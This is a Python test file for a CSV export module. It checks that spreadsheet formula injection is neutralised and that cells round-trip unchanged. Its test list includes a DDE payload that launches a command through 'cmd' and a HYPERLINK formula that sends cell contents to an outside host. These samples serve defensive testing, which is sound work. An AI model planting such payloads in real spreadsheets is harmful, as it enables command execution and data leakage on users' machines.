"""No text leaves as a formula, and all come back as they were."""

from __future__ import annotations

import io

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tracepaper.changes.state import Exhibit, Label, State, publish
from tracepaper.exhibits.exhibit import read_csv, write_csv
from tracepaper.exhibits.exported import as_csv, as_meant, harmless, read_records, read_rows, text_of

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://example.org?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1+1",
    "＝1+1",
    "-",
    "=",
    "- -1",
    "'=1",
    "''\t@x",
    "-inf",
    "+1e",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_leaves_as_a_text_and_comes_back(text):
    assert harmless(text) == "'" + text and as_meant(harmless(text)) == text


@pytest.mark.parametrize(
    "cell", ["-3.5", "+2", "-1e-05", "1+1", "a=b", "Lao P.D.R.", "Côte d'Ivoire", "'s", "", -3.5, 7, None]
)
def test_numbers_and_plain_texts_are_left_alone(cell):
    assert harmless(cell) is cell and as_meant(cell) is cell


@given(st.text(st.sampled_from("'=+-@ \t\r\nab1,\";")))
def test_nothing_is_lost(text):
    assert as_meant(harmless(text)) == text
    assert not harmless(text).startswith(("=", "@", "\t", "\r"))
    rows = [["a", "b"], [text.replace("\r\n", "\n"), "x"]]
    assert read_rows(as_csv(rows)) == rows


def test_a_carriage_return_inside_a_cell_begins_no_row():
    assert as_csv([["a\r=1", "b"]]) == '"a\r=1",b\n'


def test_an_exhibits_data_leave_and_return(tmp_path):
    frame = pd.DataFrame({"=name": FORMULAS, "value": [-1.5, *[np.nan] * (len(FORMULAS) - 1)]})
    write_csv(frame, tmp_path / "data.csv")
    text = text_of(tmp_path / "data.csv")
    assert text.startswith("'=name,value\n'=1+1,-1.5\n")
    for row in pd.read_csv(io.StringIO(text), dtype="str", keep_default_na=False)["'=name"]:
        assert row.startswith("'")
    pd.testing.assert_frame_equal(read_csv(tmp_path / "data.csv", ["=name"]), frame)
    assert [row["=name"] for row in read_records(text)] == FORMULAS


def test_the_published_tables_are_neutral_too(tmp_path):
    state = State(Label("this-build"), {}, exhibits={"tbl-a": Exhibit({}, [["name"], ["=1+1"]], {}, {})})
    publish(state, "2026-11-23", tmp_path / "published", "en")
    assert (tmp_path / "published/exhibits/tbl-a.csv").read_text() == "name\n'=1+1\n"
